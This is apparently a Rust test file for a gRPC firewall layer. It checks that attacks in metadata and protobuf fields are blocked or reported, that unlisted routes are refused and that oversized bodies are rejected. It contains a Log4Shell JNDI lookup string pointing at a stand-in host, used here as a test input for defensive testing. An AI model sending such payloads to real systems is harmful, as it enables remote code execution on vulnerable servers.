//! tonic: a gRPC server (the standard health service from `tonic-health`, no codegen) built
//! with `Server::builder().layer(IronwardLayer::new(engine))`, served over HTTP/2 on
//! 127.0.0.1:0 and called with tonic's own client.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use ironward_core::check::CheckId;
use ironward_core::config::Level;
use ironward_core::event::Event;
use ironward_core::{Config, Engine};
use ironward_tower::{IronwardLayer, Routes};
use tokio::net::TcpListener;
use tonic::transport::server::TcpIncoming;
use tonic::transport::{Channel, Endpoint, Server};
use tonic_health::pb::health_check_response::ServingStatus;
use tonic_health::pb::health_client::HealthClient;
use tonic_health::pb::{HealthCheckRequest, HealthCheckResponse};

use crate::http_differential::{CAP, SQLI, XSS, blocking, monitoring, seen};
use crate::support::LIMIT;

/// An attack in request metadata (a header): Log4Shell, blocked by the default configuration
/// (`code_injection`).
const ATTACK: &str = "${jndi:ldap://evil.example/a}";

/// Serves the health service behind the layer; returns the address and the events reported.
async fn serve(config: Config) -> (SocketAddr, Arc<Mutex<Vec<Event>>>) {
    serve_with(config, None).await
}

/// The same, with a route list for the layer.
async fn serve_with(
    config: Config,
    routes: Option<Routes>,
) -> (SocketAddr, Arc<Mutex<Vec<Event>>>) {
    let events = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&events);
    let engine = Arc::new(Engine::new(config).expect("valid config"));
    let mut layer =
        IronwardLayer::new(engine).on_event(move |e| sink.lock().expect("lock").push(e));
    if let Some(routes) = routes {
        layer = layer.routes(routes);
    }
    let (reporter, health) = tonic_health::server::health_reporter();
    // A named service the body-inspection tests ask about.
    reporter
        .set_service_status(SHOP, tonic_health::ServingStatus::Serving)
        .await;
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = Server::builder()
            .layer(layer)
            .add_service(health)
            .serve_with_incoming(TcpIncoming::from(listener))
            .await;
    });
    (addr, events)
}

/// A client connected to the server.
async fn client(addr: SocketAddr) -> HealthClient<Channel> {
    let channel = tokio::time::timeout(LIMIT, async {
        Endpoint::from_shared(format!("http://{addr}"))
            .expect("endpoint")
            .connect()
            .await
            .expect("connect")
    })
    .await
    .expect("connect timed out");
    HealthClient::new(channel)
}

/// A health `Check` of the whole server, with these metadata entries.
async fn check(
    addr: SocketAddr,
    metadata: &[(&'static str, &str)],
) -> Result<HealthCheckResponse, tonic::Status> {
    let mut client = client(addr).await;
    let mut req = tonic::Request::new(HealthCheckRequest {
        service: String::new(),
    });
    for (name, value) in metadata {
        req.metadata_mut()
            .insert(*name, value.parse().expect("metadata value"));
    }
    tokio::time::timeout(LIMIT, client.check(req))
        .await
        .expect("check timed out")
        .map(tonic::Response::into_inner)
}

/// A service name the health service knows (`SERVING`).
const SHOP: &str = "shop.Cart";

/// A health `Check` of one service by name: the name is field 1 (a string) of the protobuf
/// request message, in the gRPC body.
async fn check_service(
    addr: SocketAddr,
    service: &str,
) -> Result<HealthCheckResponse, tonic::Status> {
    let mut client = client(addr).await;
    let req = tonic::Request::new(HealthCheckRequest {
        service: service.to_owned(),
    });
    tokio::time::timeout(LIMIT, client.check(req))
        .await
        .expect("check timed out")
        .map(tonic::Response::into_inner)
}

fn config() -> Config {
    let mut c = Config::default();
    c.blacklist_override = true;
    c
}

#[tokio::test]
async fn a_health_check_passes_through_the_layer() {
    let (addr, events) = serve(config()).await;
    let res = check(addr, &[("x-user", "ada")]).await.expect("a response");
    assert_eq!(res.status, ServingStatus::Serving as i32);
    assert!(events.lock().expect("lock").is_empty());
}

#[tokio::test]
async fn an_attack_in_metadata_is_blocked_and_the_client_sees_permission_denied() {
    let (addr, events) = serve(config()).await;
    let status = check(addr, &[("x-user", ATTACK)])
        .await
        .expect_err("blocked");
    // A gRPC call is blocked with a trailers-only response: the 403 of the configuration is
    // `grpc-status` 7, PERMISSION_DENIED, with the block content as the message.
    assert_eq!(status.code(), tonic::Code::PermissionDenied, "{status:?}");
    assert_eq!(status.message(), "Blocked");
    {
        let events = events.lock().expect("lock");
        assert_eq!(events.len(), 1, "{events:?}");
        assert_eq!(events[0].path, "/grpc.health.v1.Health/Check");
        // The `tonic` feature reads the client address from tonic's `TcpConnectInfo`.
        assert_eq!(
            events[0].source_ip.map(|ip| ip.to_string()).as_deref(),
            Some("127.0.0.1")
        );
    }
    // The server still answers the next, benign call.
    let res = check(addr, &[]).await.expect("a response");
    assert_eq!(res.status, ServingStatus::Serving as i32);
}

#[tokio::test]
async fn monitor_mode_passes_and_reports() {
    let mut c = config();
    c.security_checks
        .set(CheckId::CodeInjection, Level::Monitor);
    let (addr, events) = serve(c).await;
    let res = check(addr, &[("x-user", ATTACK)])
        .await
        .expect("passes in monitor mode");
    assert_eq!(res.status, ServingStatus::Serving as i32);
    let events = events.lock().expect("lock");
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0].path, "/grpc.health.v1.Health/Check");
}

#[tokio::test]
async fn a_route_list_answers_unlisted_methods_unimplemented() {
    // Only `Watch` is listed: `Check` is an unknown route for the `path` check, whose 404
    // (NATIVE_ROUTE_STATUS) is gRPC's UNIMPLEMENTED, what a server says of a method it lacks.
    let routes = Routes::new().route("/grpc.health.v1.Health/Watch", &["POST"]);
    let (addr, events) = serve_with(config(), Some(routes)).await;
    let status = check(addr, &[]).await.expect_err("not listed");
    assert_eq!(status.code(), tonic::Code::Unimplemented, "{status:?}");
    assert_eq!(status.message(), "Not Found");
    {
        let events = events.lock().expect("lock");
        assert_eq!(events.len(), 1, "{events:?}");
        assert_eq!(events[0].check, CheckId::Path);
    }
    // Listed: passes.
    let routes = Routes::new().route("/grpc.health.v1.Health/{method}", &["POST"]);
    let (addr, _) = serve_with(config(), Some(routes)).await;
    let res = check(addr, &[]).await.expect("a response");
    assert_eq!(res.status, ServingStatus::Serving as i32);
}

// The gRPC body (issue 17): the layer buffers it up to MAX_BODY_BYTES and hands it to the
// engine with its Content-Type, which reads the protobuf string fields without a schema.

#[tokio::test]
async fn attacks_in_a_protobuf_string_field_are_blocked() {
    let (control, cev) = serve(monitoring()).await;
    let (block, bev) = serve(blocking()).await;
    let mut failed = Vec::new();
    for attack in [SQLI, XSS] {
        // Control: the health service reads the name (an unknown service: NOT_FOUND).
        match check_service(control, attack).await {
            Err(s) if s.code() == tonic::Code::NotFound => {}
            other => failed.push(format!("{attack}: control: {other:?}")),
        }
        let monitored = seen(&cev);
        match check_service(block, attack).await {
            Err(s) if s.code() == tonic::Code::PermissionDenied => {}
            other => failed.push(format!(
                "{attack}: not blocked: {other:?}; the engine reported: [{}] (monitor run: [{monitored}])",
                seen(&bev)
            )),
        }
        seen(&bev);
    }
    // A benign name passes and the service answers for it.
    match check_service(block, SHOP).await {
        Ok(r) if r.status == ServingStatus::Serving as i32 => {}
        other => failed.push(format!("benign: {other:?}; [{}]", seen(&bev))),
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

#[tokio::test]
async fn a_grpc_body_over_the_cap_is_refused_resource_exhausted() {
    // HTTP/2 without Content-Length: the layer reads one byte past MAX_BODY_BYTES, the engine
    // answers 413 (BODY_LIMIT_ACTION=block), a gRPC client sees RESOURCE_EXHAUSTED.
    let long = "x".repeat(CAP + 100);
    let (block, bev) = serve(blocking()).await;
    let status = check_service(block, &long).await.expect_err("refused");
    assert_eq!(status.code(), tonic::Code::ResourceExhausted, "{status:?}");
    assert!(seen(&bev).contains("body_limit"));
    // A name that fits passes.
    let fits = "x".repeat(CAP - 100);
    let status = check_service(block, &fits)
        .await
        .expect_err("an unknown service");
    assert_eq!(status.code(), tonic::Code::NotFound, "{status:?}");
    // Monitor: the service reads the whole name (NOT_FOUND), the limit is reported.
    let (control, cev) = serve(monitoring()).await;
    let status = check_service(control, &long)
        .await
        .expect_err("an unknown service");
    assert_eq!(status.code(), tonic::Code::NotFound, "{status:?}");
    assert!(seen(&cev).contains("body_limit"));
}
